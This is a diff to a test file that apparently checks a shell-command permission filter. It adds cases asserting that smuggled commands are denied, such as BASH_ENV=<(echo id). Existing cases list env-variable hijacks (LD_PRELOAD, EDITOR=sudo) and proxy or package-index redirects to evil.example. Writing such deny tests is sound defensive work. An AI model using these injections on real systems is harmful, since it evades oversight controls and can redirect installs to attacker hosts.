@@ -113,7 +113,7 @@ def test_what_a_granted_variable_does_may_be_granted_too(script: str) -> None:
      "export EDITOR=sudo; git commit", "EDITOR=vim; EDITOR=./x; git commit", "env GIT_PAGER=./x git log", "RUSTC_WRAPPER=./x npm test", "npm_config_script_shell=./x npm test",
      "HTTPS_PROXY=http://evil.example npm test", "https_proxy=evil.example:80 npm test", "ALL_PROXY=socks5://evil.example npm test", "PIP_INDEX_URL=https://evil.example/simple npm test",
      "COREPACK_NPM_REGISTRY=https://evil.example npm test", "GOPROXY=direct,https://evil.example npm test", 'HTTPS_PROXY="$X" npm test', "PYTHONPATH=out/x pytest", "LD_PRELOAD=lib/a.so:out/x.so npm test",
-     "BASH_ENV=out/x npm test"],
+     "BASH_ENV=out/x npm test", "BASH_ENV=<(echo id) npm test", "env BASH_ENV=<(echo id) npm test", "export PYTHONSTARTUP=<(echo 1); npm test", "GIT_CONFIG_GLOBAL=<(echo x) git log"],
 )  # fmt: skip
 def test_a_variable_has_the_effects_of_its_value(script: str) -> None:
     assert effect(script) == "deny"
